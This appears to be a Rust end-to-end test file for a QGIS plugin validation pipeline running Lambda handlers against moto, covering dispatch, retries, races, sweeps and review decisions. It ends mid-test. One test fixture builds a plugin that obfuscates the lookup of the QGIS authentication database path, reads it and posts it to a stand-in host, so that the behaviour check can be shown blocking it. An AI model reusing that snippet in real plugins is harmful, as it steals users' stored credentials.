//! The Lambda handlers against moto server, end to end: S3 event -> dispatcher -> a message on
//! each check queue -> the check handler per queue -> DynamoDB -> the aggregator fed with the
//! table's stream records -> final status, emails in SES, the status event on the bus.

mod common;

use std::sync::Arc;

use common::{sqs_event, Stack};
use validator_checks::CheckRegistry;
use validator_domain::{
    Check, CheckContext, CheckError, CheckId, Finding, RuleInfo, ScanId, ScanStatus,
};
use validator_lambda::dispatcher::handle_s3_event;
use validator_pipeline::DispatchOutcome;
use validator_testkit::ZipBuilder;

/// template.yaml's (and infra/moto-resources.py's) maxReceiveCount.
const MAX_RECEIVE_COUNT: u32 = 5;

const METADATA: &[(&str, &str)] = &[
    ("maintainers", "maintainer@example.org"),
    ("uploader", "alice"),
    ("trusted", "false"),
    ("version-id", "4242"),
];

async fn dispatch(stack: &Stack, raw_key: &str) -> Vec<DispatchOutcome> {
    handle_s3_event(
        &stack.cold.pipeline,
        stack.bucket(),
        &stack.s3_event(raw_key),
    )
    .await
    .expect("dispatch")
}

fn scan_id(outcomes: &[DispatchOutcome]) -> ScanId {
    match outcomes {
        [DispatchOutcome::Dispatched { scan_id, .. }] => scan_id.clone(),
        other => panic!("expected one dispatched scan, got {other:?}"),
    }
}

async fn scan(stack: &Stack, id: &ScanId) -> validator_domain::Scan {
    stack
        .cold
        .pipeline
        .store
        .get_scan(id)
        .await
        .expect("read the scan")
        .expect("the scan exists")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_upload_goes_through_every_function_to_a_final_status() {
    let mut stack = Stack::new(CheckRegistry::builtin(), &[]).await;
    let zip = ZipBuilder::valid_plugin("demo").build();
    // The key has a space: S3 sends it URL-encoded with `+`.
    stack.upload("uploads/demo plugin.zip", zip, METADATA).await;
    let id = scan_id(&dispatch(&stack, "uploads/demo+plugin.zip").await);

    let created = scan(&stack, &id).await;
    assert_eq!(created.status, ScanStatus::Validating);
    assert_eq!(created.plugin_name.as_deref(), Some("demo"));
    assert_eq!(created.upload.website_version_id.as_deref(), Some("4242"));
    // The claim lives in its own item (never the scan item the stream filter passes).
    let notices = stack
        .cold
        .pipeline
        .store
        .notifications(&id)
        .await
        .expect("notices");
    assert!(notices.confirmation.sent_at.is_some());
    assert!(created.notifications.confirmation.sent_at.is_none());

    // One message on each check's queue.
    for check in CheckRegistry::builtin().ids() {
        let (queue, _) = &stack.queues[check.as_str()];
        assert_eq!(stack.queue_depth(queue).await, 1, "queue of {check}");
    }
    // The dispatcher's INSERT reaches the aggregator first: nothing to decide yet.
    stack.drain_stream().await;
    assert_eq!(scan(&stack, &id).await.status, ScanStatus::Validating);

    for check in CheckRegistry::builtin().ids() {
        assert_eq!(stack.run_check_queue(check.as_str()).await, 1);
    }
    let results = stack
        .cold
        .pipeline
        .store
        .results(&id)
        .await
        .expect("results");
    assert_eq!(results.len(), CheckRegistry::builtin().ids().len());

    stack.drain_stream().await;
    let done = scan(&stack, &id).await;
    assert_eq!(
        done.status,
        ScanStatus::Validated,
        "reasons: {:?}",
        done.reasons
    );
    let report_key = done.report_key.clone().expect("a report");
    let report = validator_pipeline::BlobStore::get(&*stack.cold.pipeline.blobs, &report_key)
        .await
        .expect("the report is in S3");
    let report: serde_json::Value = serde_json::from_slice(&report.bytes).expect("json report");
    assert_eq!(report["status"], "validated", "{report}");
    assert_eq!(
        report["provenance"]["validator_version"],
        env!("CARGO_PKG_VERSION")
    );
    let html_key = report_key.replace(".json", ".html");
    let html = validator_pipeline::BlobStore::get(&*stack.cold.pipeline.blobs, &html_key)
        .await
        .expect("report.html is in S3 beside the JSON");
    assert!(String::from_utf8_lossy(&html.bytes).contains("class=\"verdict validated\""));
    // The licence check's section went through its findings object to the report, and the
    // SBOM lies beside the report in S3.
    assert_eq!(report["licence"]["plugin"]["spdx"], "GPL-2.0-or-later");
    // The qgis4 check's readiness went the same way (through its own function and queue).
    assert_eq!(
        report["qgis4"]["state"], "not_declared",
        "{}",
        report["qgis4"]
    );
    assert!(String::from_utf8_lossy(&html.bytes).contains("QGIS 4 ready: no"));
    let sbom_key = report_key.replace(".json", ".cdx.json");
    let sbom = validator_pipeline::BlobStore::get(&*stack.cold.pipeline.blobs, &sbom_key)
        .await
        .expect("the SBOM is in S3 beside the report");
    let sbom: serde_json::Value = serde_json::from_slice(&sbom.bytes).expect("json SBOM");
    assert_eq!(sbom["specVersion"], "1.5");
    assert_eq!(
        sbom["metadata"]["component"]["hashes"][0]["content"],
        done.content_digest.clone().expect("a digest").as_str()
    );

    // Confirmation and results to the maintainer, review request to the approvers: once each.
    let emails = stack.sent_emails();
    let to_maintainer: Vec<_> = emails
        .iter()
        .filter(|e| e.to.iter().any(|t| t == "maintainer@example.org"))
        .collect();
    assert_eq!(to_maintainer.len(), 2, "{emails:?}");
    assert!(emails
        .iter()
        .any(|e| e.to.iter().any(|t| t == "approvers@example.org")));
    assert_eq!(emails.len(), 3, "{emails:?}");

    let events = stack.status_events().await;
    assert_eq!(events.len(), 1, "{events:?}");
    let detail = &events[0]["detail"];
    assert_eq!(events[0]["source"], "qgis.plugin-validator");
    assert_eq!(detail["scan_id"], id.as_str());
    assert_eq!(detail["status"], "validated");
    assert_eq!(detail["website_version_id"], "4242");
    assert_eq!(detail["plugin"], "demo");
    assert_eq!(
        detail["report"],
        format!("s3://{}/{report_key}", stack.bucket())
    );

    // Website-readable attributes on the scan item.
    let item = stack.scan_item(&id).await.expect("item");
    assert_eq!(item["status"].as_s().expect("s"), "validated");
    assert_eq!(item["website_version_id"].as_s().expect("s"), "4242");
    assert!(item.contains_key("expires_at"));

    // The same S3 event again (S3 delivers at least once) changes nothing.
    let again = dispatch(&stack, "uploads/demo+plugin.zip").await;
    assert!(matches!(
        &again[..],
        [DispatchOutcome::Dispatched { new_scan: false, enqueued, .. }] if enqueued.is_empty()
    ));
    stack.drain_stream().await;
    assert_eq!(stack.sent_emails().len(), 3);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_same_message_delivered_twice_stores_one_result() {
    let stack = Stack::new(CheckRegistry::builtin(), &[]).await;
    stack
        .upload(
            "uploads/demo.zip",
            ZipBuilder::valid_plugin("demo").build(),
            METADATA,
        )
        .await;
    let id = scan_id(&dispatch(&stack, "uploads/demo.zip").await);
    let messages = stack.receive("package_structure", 1).await;
    assert_eq!(messages.len(), 1);
    let check = CheckId::new("package_structure");
    for delivery in 0..2 {
        let response = validator_lambda::check::handle_sqs_batch(
            &stack.cold.pipeline,
            &check,
            3,
            &sqs_event(messages.clone()),
        )
        .await;
        assert!(
            response.batch_item_failures.is_empty(),
            "delivery {delivery}"
        );
    }
    let results = stack
        .cold
        .pipeline
        .store
        .results(&id)
        .await
        .expect("results");
    assert_eq!(results.len(), 1);
    assert_eq!(scan(&stack, &id).await.completed_checks, vec![check]);
}

/// A check that fails on every run.
struct BrokenCheck;

impl Check for BrokenCheck {
    fn id(&self) -> &'static str {
        "broken"
    }
    fn title(&self) -> &'static str {
        "Broken"
    }
    fn rules(&self) -> &'static [RuleInfo] {
        &[]
    }
    fn run(&self, _ctx: &CheckContext<'_>) -> Result<Vec<Finding>, CheckError> {
        Err(CheckError::Failed("the engine crashed".to_owned()))
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_check_failing_on_every_attempt_ends_the_scan_in_error() {
    let registry = CheckRegistry::with(vec![
        Arc::new(validator_package_checks::PackageStructureCheck),
        Arc::new(BrokenCheck),
    ]);
    let mut stack = Stack::new(registry, &[]).await;
    stack
        .upload(
            "uploads/demo.zip",
            ZipBuilder::valid_plugin("demo").build(),
            METADATA,
        )
        .await;
    let id = scan_id(&dispatch(&stack, "uploads/demo.zip").await);
    stack.run_check_queue("package_structure").await;

    // Real redeliveries: moto counts receives; the fifth (maxReceiveCount) is the last attempt.
    for attempt in 1..=MAX_RECEIVE_COUNT {
        let messages = stack.receive("broken", 1).await;
        assert_eq!(messages.len(), 1, "attempt {attempt}");
        assert_eq!(
            messages[0].attributes["ApproximateReceiveCount"],
            attempt.to_string()
        );
        let response = validator_lambda::check::handle_sqs_batch(
            &stack.cold.pipeline,
            &CheckId::new("broken"),
            MAX_RECEIVE_COUNT,
            &sqs_event(messages.clone()),
        )
        .await;
        if attempt < MAX_RECEIVE_COUNT {
            assert_eq!(
                response.batch_item_failures.len(),
                1,
                "attempt {attempt} is retried"
            );
            assert_eq!(scan(&stack, &id).await.completed_checks.len(), 1);
        } else {
            assert!(response.batch_item_failures.is_empty());
            stack.delete("broken", &messages).await;
        }
    }
    stack.drain_stream().await;
    let done = scan(&stack, &id).await;
    assert_eq!(done.status, ScanStatus::Error);
    let events = stack.status_events().await;
    assert_eq!(events[0]["detail"]["status"], "error");
    assert!(stack
        .sent_emails()
        .iter()
        .any(|e| e.subject.to_lowercase().contains("error") || e.body.contains("error")));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_poison_message_goes_to_the_dead_letter_queue() {
    let stack = Stack::new(CheckRegistry::builtin(), &[]).await;
    let (queue, dlq) = stack.queues["package_structure"].clone();
    stack
        .clients
        .sqs
        .send_message()
        .queue_url(&queue)
        .message_body("not a check request")
        .send()
        .await
        .expect("send");
    for _ in 0..MAX_RECEIVE_COUNT {
        let messages = stack.receive("package_structure", 1).await;
        let response = validator_lambda::check::handle_sqs_batch(
            &stack.cold.pipeline,
            &CheckId::new("package_structure"),
            MAX_RECEIVE_COUNT,
            &sqs_event(messages),
        )
        .await;
        assert_eq!(response.batch_item_failures.len(), 1);
    }
    // The next receive moves it to the DLQ (maxReceiveCount).
    assert!(stack.receive("package_structure", 1).await.is_empty());
    assert_eq!(stack.queue_depth(&dlq).await, 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn two_results_racing_decide_and_notify_once() {
    let mut stack = Stack::new(CheckRegistry::builtin(), &[]).await;
    stack
        .upload(
            "uploads/demo.zip",
            ZipBuilder::valid_plugin("demo").build(),
            METADATA,
        )
        .await;
    let id = scan_id(&dispatch(&stack, "uploads/demo.zip").await);
    let ids: Vec<&str> = CheckRegistry::builtin().iter().map(|c| c.id()).collect();
    let (first, last_two) = ids.split_at(ids.len() - 2);
    for id in first {
        stack.run_check_queue(id).await;
    }
    // The last two results land at the same time.
    let (a, b) = tokio::join!(
        stack.run_check_queue(last_two[0]),
        stack.run_check_queue(last_two[1])
    );
    assert_eq!((a, b), (1, 1));
    // Two aggregator invocations see the same records at once.
    let batch = stack.stream_batch();
    let (first, second) = tokio::join!(
        validator_lambda::aggregator::handle_stream_batch(&stack.cold.pipeline, &batch),
        validator_lambda::aggregator::handle_stream_batch(&stack.cold.pipeline, &batch)
    );
    assert!(first.batch_item_failures.is_empty() && second.batch_item_failures.is_empty());
    stack.drain_stream().await;
    assert_eq!(scan(&stack, &id).await.status, ScanStatus::Validated);
    let results_emails = stack
        .sent_emails()
        .into_iter()
        .filter(|e| e.to.iter().any(|t| t == "maintainer@example.org"))
        .count();
    assert_eq!(results_emails, 2, "one confirmation and one results email");
    assert_eq!(stack.status_events().await.len(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_object_outside_the_upload_prefix_is_ignored() {
    let stack = Stack::new(CheckRegistry::builtin(), &[]).await;
    stack
        .upload(
            "reports/demo.zip",
            ZipBuilder::valid_plugin("demo").build(),
            METADATA,
        )
        .await;
    let outcomes = dispatch(&stack, "reports/demo.zip").await;
    assert!(matches!(&outcomes[..], [DispatchOutcome::Ignored { .. }]));
    assert_eq!(stack.item_count().await, 0);
    for (queue, _) in stack.queues.values() {
        assert_eq!(stack.queue_depth(queue).await, 0);
    }
    assert!(stack.sent_emails().is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_zip_over_the_limits_is_blocked_without_running_checks() {
    let mut stack = Stack::new(
        CheckRegistry::builtin(),
        &[("PLUGIN_VALIDATOR_MAX_UNCOMPRESSED_BYTES", "10000")],
    )
    .await;
    let big = "x = 1\n".repeat(5_000);
    let zip = ZipBuilder::valid_plugin("demo")
        .file("demo/big.py", &big)
        .build();
    stack.upload("uploads/demo.zip", zip, METADATA).await;
    let id = scan_id(&dispatch(&stack, "uploads/demo.zip").await);
    for (queue, _) in stack.queues.values() {
        assert_eq!(stack.queue_depth(queue).await, 0);
    }
    stack.drain_stream().await;
    let done = scan(&stack, &id).await;
    assert_eq!(done.status, ScanStatus::Blocked);
    assert!(
        done.intake_findings
            .iter()
            .any(|f| f.message.contains("10000")
                || f.rule.contains("limit")
                || f.message.contains("uncompressed")),
        "{:?}",
        done.intake_findings
    );
    assert_eq!(
        stack.status_events().await[0]["detail"]["status"],
        "blocked"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_sweep_ends_a_scan_whose_check_never_reported() {
    let mut stack = Stack::new(CheckRegistry::builtin(), &[("STUCK_AFTER_MINUTES", "0")]).await;
    stack
        .upload(
            "uploads/demo.zip",
            ZipBuilder::valid_plugin("demo").build(),
            METADATA,
        )
        .await;
    let id = scan_id(&dispatch(&stack, "uploads/demo.zip").await);
    stack.run_check_queue("package_structure").await;
    // The other two functions died without a word. One second later the sweep runs.
    tokio::time::sleep(std::time::Duration::from_millis(1100)).await;
    let report = validator_lambda::aggregator::handle_sweep(&stack.cold.pipeline)
        .await
        .expect("sweep");
    assert_eq!(report.stuck, 1);
    assert_eq!(report.ended, vec![id.clone()]);
    assert_eq!(scan(&stack, &id).await.status, ScanStatus::Error);
    stack.drain_stream().await;
    assert_eq!(stack.status_events().await.len(), 1);
}

/// A plugin whose code the policy blocks (a literal `exec` in the module `classFactory` loads).
fn blocked_plugin() -> Vec<u8> {
    ZipBuilder::valid_plugin("demo")
        .file(
            "demo/plugin.py",
            "class Plugin:\n    def __init__(self, iface):\n        exec(iface)\n",
        )
        .build()
}

/// The S3 event of one version of `uploads/demo.zip`, through the dispatcher.
async fn dispatch_version(stack: &Stack, version: &str) -> Vec<DispatchOutcome> {
    handle_s3_event(
        &stack.cold.pipeline,
        stack.bucket(),
        &stack.s3_event_for_version("uploads/demo.zip", Some(version)),
    )
    .await
    .expect("dispatch")
}

async fn run_every_check(stack: &mut Stack) {
    for check in CheckRegistry::builtin().ids() {
        stack.run_check_queue(check.as_str()).await;
    }
    stack.drain_stream().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_scan_checks_the_s3_version_it_was_created_for_when_the_key_is_written_again() {
    let mut stack = Stack::new(CheckRegistry::builtin(), &[]).await;
    let first = stack
        .upload("uploads/demo.zip", blocked_plugin(), METADATA)
        .await
        .expect("a versioned bucket");
    let blocked_id = scan_id(&dispatch_version(&stack, &first).await);
    // A clean zip under the same key before the check messages are delivered.
    let second = stack
        .upload(
            "uploads/demo.zip",
            ZipBuilder::valid_plugin("demo").build(),
            METADATA,
        )
        .await
        .expect("a versioned bucket");
    run_every_check(&mut stack).await;
    let done = scan(&stack, &blocked_id).await;
    assert_eq!(done.object_version.as_deref(), Some(first.as_str()));
    assert_eq!(done.status, ScanStatus::Blocked, "{:?}", done.reasons);

    // The second version's event: a scan of its own, validated.
    let clean_id = scan_id(&dispatch_version(&stack, &second).await);
    assert_ne!(clean_id, blocked_id);
    run_every_check(&mut stack).await;
    assert_eq!(scan(&stack, &clean_id).await.status, ScanStatus::Validated);
    let statuses: Vec<String> = stack
        .status_events()
        .await
        .iter()
        .map(|e| {
            e["detail"]["status"]
                .as_str()
                .unwrap_or_default()
                .to_owned()
        })
        .collect();
    assert_eq!(statuses, ["blocked", "validated"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn two_s3_versions_written_before_their_events_get_one_scan_each() {
    let mut stack = Stack::new(CheckRegistry::builtin(), &[]).await;
    let first = stack
        .upload("uploads/demo.zip", blocked_plugin(), METADATA)
        .await
        .expect("a versioned bucket");
    let second = stack
        .upload(
            "uploads/demo.zip",
            ZipBuilder::valid_plugin("demo").build(),
            METADATA,
        )
        .await
        .expect("a versioned bucket");
    let first_id = scan_id(&dispatch_version(&stack, &first).await);
    let second_id = scan_id(&dispatch_version(&stack, &second).await);
    assert_ne!(first_id, second_id);
    run_every_check(&mut stack).await;
    assert_eq!(scan(&stack, &first_id).await.status, ScanStatus::Blocked);
    assert_eq!(scan(&stack, &second_id).await.status, ScanStatus::Validated);
}

/// A check slow enough that two deliveries of one message are both running before either
/// stores its result.
struct SlowCheck;

impl Check for SlowCheck {
    fn id(&self) -> &'static str {
        "slow"
    }
    fn title(&self) -> &'static str {
        "Slow"
    }
    fn rules(&self) -> &'static [RuleInfo] {
        &[]
    }
    fn run(&self, _ctx: &CheckContext<'_>) -> Result<Vec<Finding>, CheckError> {
        std::thread::sleep(std::time::Duration::from_millis(500));
        Ok(Vec::new())
    }
}

/// moto behind the one-request-at-a-time server makes each request atomic, as DynamoDB is: of
/// two deliveries racing, only the conditional write of the first can store the result. (With
/// the condition removed from `record_result`, both report `Stored` and this test fails.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_same_message_delivered_concurrently_is_stored_by_one_delivery() {
    let stack = Stack::new(CheckRegistry::with(vec![Arc::new(SlowCheck)]), &[]).await;
    stack
        .upload(
            "uploads/demo.zip",
            ZipBuilder::valid_plugin("demo").build(),
            METADATA,
        )
        .await;
    let id = scan_id(&dispatch(&stack, "uploads/demo.zip").await);
    let messages = stack.receive("slow", 1).await;
    let request: validator_pipeline::CheckRequest =
        serde_json::from_str(messages[0].body.as_deref().expect("a body")).expect("a request");
    let attempt = validator_pipeline::Attempt { number: 1, max: 3 };
    let (a, b) = tokio::join!(
        validator_pipeline::run_check(&stack.cold.pipeline, &request, attempt),
        validator_pipeline::run_check(&stack.cold.pipeline, &request, attempt)
    );
    let outcomes = [a.expect("first delivery"), b.expect("second delivery")];
    let stored = outcomes
        .iter()
        .filter(|o| matches!(o, validator_pipeline::RunCheckOutcome::Stored { .. }))
        .count();
    assert_eq!(stored, 1, "{outcomes:?}");
    assert!(
        outcomes.contains(&validator_pipeline::RunCheckOutcome::Duplicate),
        "{outcomes:?}"
    );
    assert_eq!(
        stack
            .cold
            .pipeline
            .store
            .results(&id)
            .await
            .expect("results")
            .len(),
        1
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_sweep_reads_every_page_of_stuck_scans_up_to_its_limit() {
    let stack = Stack::new(
        CheckRegistry::builtin(),
        &[
            ("STUCK_AFTER_MINUTES", "0"),
            ("SWEEP_PAGE_SIZE", "2"),
            ("SWEEP_MAX_SCANS", "4"),
        ],
    )
    .await;
    let mut ids = Vec::new();
    for n in 0..5 {
        let key = format!("uploads/demo{n}.zip");
        stack
            .upload(&key, ZipBuilder::valid_plugin("demo").build(), METADATA)
            .await;
        ids.push(scan_id(&dispatch(&stack, &key).await));
    }
    tokio::time::sleep(std::time::Duration::from_millis(1100)).await;
    let limits = stack.cold.pipeline.config.sweep;
    assert_eq!((limits.page_size, limits.max_scans), (2, 4));
    let first = validator_lambda::aggregator::handle_sweep(&stack.cold.pipeline)
        .await
        .expect("sweep");
    // Three pages of two would hold all five: the limit stops at four.
    assert_eq!((first.stuck, first.ended.len()), (4, 4));
    let second = validator_lambda::aggregator::handle_sweep(&stack.cold.pipeline)
        .await
        .expect("sweep");
    assert_eq!((second.stuck, second.ended.len()), (1, 1));
    for id in &ids {
        assert_eq!(scan(&stack, id).await.status, ScanStatus::Error);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_plugin_that_sends_the_auth_database_away_is_blocked_by_the_behaviour_check() {
    let mut stack = Stack::new(CheckRegistry::builtin(), &[]).await;
    // Trusted uploader: nothing but the behaviour check stands between this and auto-approval.
    let metadata: Vec<(&str, &str)> = METADATA
        .iter()
        .map(|&(k, v)| if k == "trusted" { (k, "true") } else { (k, v) })
        .collect();
    let zip = ZipBuilder::valid_plugin("demo")
        .file(
            "demo/__init__.py",
            "from . import work\n\n\ndef classFactory(iface):\n    from .plugin import Plugin\n    return Plugin(iface)\n",
        )
        .file(
            "demo/work.py",
            "import requests\nfrom qgis.core import QgsApplication\n\n\ndef run():\n    \
             locate = getattr(QgsApplication, 'qgisAuth' + 'DatabaseFilePath')\n    \
             data = open(locate(), 'rb').read()\n    \
             requests.post('https://hooks.example.invalid/x', data=data)\n",
        )
        .build();
    stack.upload("uploads/demo.zip", zip, &metadata).await;
    let id = scan_id(&dispatch(&stack, "uploads/demo.zip").await);
    let (queue, _) = &stack.queues["behaviour"];
    assert_eq!(
        stack.queue_depth(queue).await,
        1,
        "the behaviour check has its own queue"
    );
    for check in CheckRegistry::builtin().ids() {
        assert_eq!(stack.run_check_queue(check.as_str()).await, 1);
    }
    stack.drain_stream().await;
    let done = scan(&stack, &id).await;
    assert_eq!(
        done.status,
        ScanStatus::Blocked,
        "reasons: {:?}",
        done.reasons
    );
    assert!(!done.auto_approved);
    let report = validator_pipeline::BlobStore::get(
        &*stack.cold.pipeline.blobs,
        &done.report_key.clone().expect("a report"),
    )
    .await
    .expect("the report is in S3");
    let report: serde_json::Value = serde_json::from_slice(&report.bytes).expect("json report");
    let findings = report["findings"].as_array().expect("findings");
    let bhv = findings
        .iter()
        .find(|f| f["rule"] == "BHV001")
        .unwrap_or_else(|| panic!("a BHV001 finding in {report}"));
    assert_eq!(bhv["check"], "behaviour");
    assert_eq!(bhv["blocking"], true);
    assert_eq!(bhv["path"], "demo/work.py");
    let message = bhv["message"].as_str().expect("message");
    assert!(
        message.contains("QGIS authentication database"),
        "{message}"
    );
    assert!(message.contains("hooks.example.invalid"), "{message}");
}

/// One version of `uploads/demo-<version>.zip` through every function; its report.
async fn run_version(stack: &mut Stack, version: &str, metadata_edit: &str) -> serde_json::Value {
    let key = format!("uploads/demo-{version}.zip");
    let metadata =
        validator_testkit::metadata_txt("demo", version).replace("jane@example.org", metadata_edit);
    let zip = ZipBuilder::valid_plugin("demo")
        .file("demo/metadata.txt", &metadata)
        .build();
    stack.upload(&key, zip, METADATA).await;
    let id = scan_id(&dispatch(stack, &key).await);
    run_every_check(stack).await;
    let done = scan(stack, &id).await;
    assert!(done.status.is_final(), "{done:?}");
    let report_key = done.report_key.expect("a report");
    let report = validator_pipeline::BlobStore::get(&*stack.cold.pipeline.blobs, &report_key)
        .await
        .expect("the report is in S3");
    serde_json::from_slice(&report.bytes).expect("json report")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_plugin_history_lives_in_dynamodb_and_the_next_version_is_diffed_against_it() {
    let mut stack = Stack::new(CheckRegistry::builtin(), &[]).await;
    let first = run_version(&mut stack, "1.0.0", "jane@example.org").await;
    assert_eq!(first["first_version"], true, "{first}");
    let second = run_version(&mut stack, "1.0.1", "mallory@example.net").await;
    assert_eq!(second["diff"]["base"]["version"], "1.0.0", "{second}");
    let email_change = second["diff"]["metadata"]
        .as_array()
        .expect("metadata changes")
        .iter()
        .find(|m| m["key"] == "email")
        .cloned()
        .expect("the email change");
    assert_eq!(email_change["sensitive"], true);

    let store = &stack.cold.pipeline.store;
    let history = store.history("package:demo", 10).await.expect("history");
    let versions: Vec<_> = history.iter().map(|e| e.version.clone()).collect();
    assert_eq!(
        versions,
        [Some("1.0.1".to_owned()), Some("1.0.0".to_owned())]
    );
    // Recording again (a retried aggregator) keeps one entry per scan; `max` bounds the read.
    store.record_history(&history[0]).await.expect("idempotent");
    assert_eq!(store.history("package:demo", 10).await.unwrap().len(), 2);
    assert_eq!(
        store.history("package:demo", 1).await.unwrap(),
        history[..1]
    );
    assert!(store.history("package:other", 10).await.unwrap().is_empty());

    let events = stack.status_events().await;
    let last = events.last().expect("status events");
    assert_eq!(last["detail"]["diff"]["base_version"], "1.0.0", "{last}");
    assert_eq!(last["detail"]["first_version"], false);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn review_decisions_are_an_append_only_trail_in_dynamodb() {
    use validator_domain::{DeciderRole, DecisionKind, ReviewDecision};
    let stack = Stack::new(CheckRegistry::builtin(), &[]).await;
    let store = &stack.cold.pipeline.store;
    let at = validator_domain::now();
    let decision = |at, withdrawn| ReviewDecision {
        plugin: "package:demo".to_owned(),
        path: "demo/plugin.py".to_owned(),
        fingerprint: "0123456789abcdef".to_owned(),
        rule: "B602".to_owned(),
        kind: DecisionKind::AcceptedRisk,
        reason: "the command is a constant".to_owned(),
        by: "approver@example.org".to_owned(),
        role: DeciderRole::Approver,
        at,
        withdrawn,
    };
    let first = decision(at, false);
    store.record_decision(&first).await.expect("recorded");
    store
        .record_decision(&first)
        .await
        .expect("the same record again");
    let withdrawal = decision(at + time::Duration::seconds(5), true);
    store.record_decision(&withdrawal).await.expect("withdrawn");
    let trail = store.decisions("package:demo").await.expect("decisions");
    assert_eq!(trail, [first, withdrawal]);
    assert!(store.decisions("package:other").await.unwrap().is_empty());
    // The history of the same plugin is not mixed with its decisions.
    assert!(store.history("package:demo", 10).await.unwrap().is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn decisions_on_every_blocking_finding_validate_a_blocked_scan_in_dynamodb() {
    use validator_domain::{DeciderRole, DecisionKind, ReviewDecision};
    use validator_pipeline::{reconsider, ReconsiderOutcome};
    let mut stack = Stack::new(CheckRegistry::builtin(), &[]).await;
    let zip = ZipBuilder::valid_plugin("demo")
        .file(
            "demo/keys.py",
            "KEY = '''-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n-----END RSA PRIVATE KEY-----'''\n",
        )
        .build();
    stack.upload("uploads/demo.zip", zip, METADATA).await;
    let id = scan_id(&dispatch(&stack, "uploads/demo.zip").await);
    run_every_check(&mut stack).await;
    let blocked = scan(&stack, &id).await;
    assert_eq!(blocked.status, ScanStatus::Blocked);
    let report = validator_pipeline::BlobStore::get(
        &*stack.cold.pipeline.blobs,
        blocked.report_key.as_deref().expect("report"),
    )
    .await
    .expect("report");
    let report: validator_domain::Report = serde_json::from_slice(&report.bytes).expect("json");
    let pipeline = &stack.cold.pipeline;
    for f in report.findings.iter().filter(|f| f.blocking) {
        pipeline
            .store
            .record_decision(&ReviewDecision {
                plugin: "package:demo".to_owned(),
                path: f.path.clone(),
                fingerprint: f.fingerprint.clone().expect("fingerprint"),
                rule: f.rule.clone(),
                kind: DecisionKind::FalsePositive,
                reason: "a test key".to_owned(),
                by: "approver@example.org".to_owned(),
                role: DeciderRole::Approver,
                at: validator_domain::now(),
                withdrawn: false,
            })
            .await
            .expect("recorded");
    }
    let outcome = reconsider(pipeline, &id).await.expect("reconsider");
    assert!(
        matches!(&outcome, ReconsiderOutcome::Revalidated { emails, .. } if emails.len() == 1),
        "{outcome:?}"
    );
    let done = scan(&stack, &id).await;
    assert_eq!(done.status, ScanStatus::Validated);
    let notices = pipeline.store.notifications(&id).await.expect("notices");
    assert!(done.reviewed_at.is_some() && notices.reviewed.sent_at.is_some());
    assert!(notices.reviewed_event.sent_at.is_some());
    assert_eq!(
        reconsider(pipeline, &id).await.expect("again"),
        ReconsiderOutcome::Revalidated {
            emails: Vec::new(),
            missing: Vec::new()
        }
    );
    let events = stack.status_events().await;
    let reviewed: Vec<_> = events
        .iter()
        .filter(|e| e["detail"]["reviewed"] == true)
        .collect();
    assert_eq!(reviewed.len(), 1, "{events:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_review_function_url_records_decisions_and_refuses_bad_ones() {
    use validator_lambda::review::handle_function_url;
    let mut stack = Stack::new(CheckRegistry::builtin(), &[]).await;
    let zip = ZipBuilder::valid_plugin("demo")
        .file(
            "demo/keys.py",
            "KEY = '''-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n-----END RSA PRIVATE KEY-----'''\n",
        )
        .build();
    stack.upload("uploads/demo.zip", zip, METADATA).await;
    let id = scan_id(&dispatch(&stack, "uploads/demo.zip").await);
    run_every_check(&mut stack).await;
    let blocked = scan(&stack, &id).await;
    let report = validator_pipeline::BlobStore::get(
        &*stack.cold.pipeline.blobs,
        blocked.report_key.as_deref().expect("report"),
    )
    .await
    .expect("report");
    let report: validator_domain::Report = serde_json::from_slice(&report.bytes).expect("json");
    let finding = report
        .findings
        .iter()
        .find(|f| f.blocking)
        .expect("blocking");
    let event = |role: &str, iam: bool| {
        let body = serde_json::json!({
            "scan_id": id,
            "path": finding.path,
            "fingerprint": finding.fingerprint,
            "kind": "false_positive",
            "reason": "a test key",
            "by": "approver@example.org",
            "role": role,
        });
        let mut event = serde_json::json!({ "body": body.to_string(), "isBase64Encoded": false });
        if iam {
            event["requestContext"] = serde_json::json!({
                "authorizer": { "iam": { "userArn": "arn:aws:iam::123456789012:role/website" } }
            });
        }
        event
    };
    let pipeline = &stack.cold.pipeline;
    let status = |r: &serde_json::Value| r["statusCode"].as_u64();
    let denied = handle_function_url(pipeline, &event("approver", false))
        .await
        .unwrap();
    assert_eq!(status(&denied), Some(403));
    let refused = handle_function_url(pipeline, &event("uploader", true))
        .await
        .unwrap();
    assert_eq!(status(&refused), Some(400), "{refused}");
    assert!(refused["body"].as_str().unwrap().contains("mandatory"));
    let malformed = handle_function_url(
        pipeline,
        &serde_json::json!({ "body": "{}", "requestContext": { "authorizer": { "iam": { "userArn": "x" } } } }),
    )
    .await
    .unwrap();
    assert_eq!(status(&malformed), Some(400));
    assert_eq!(scan(&stack, &id).await.status, ScanStatus::Blocked);

    let accepted = handle_function_url(pipeline, &event("approver", true))
        .await
        .unwrap();
    assert_eq!(status(&accepted), Some(200), "{accepted}");
    let body: serde_json::Value = serde_json::from_str(accepted["body"].as_str().unwrap()).unwrap();
    // The private key was the only blocking finding: the scan is validated.
    assert_eq!(report.findings.iter().filter(|f| f.blocking).count(), 1);
    assert_eq!(body["scan"]["status"], "validated", "{body}");
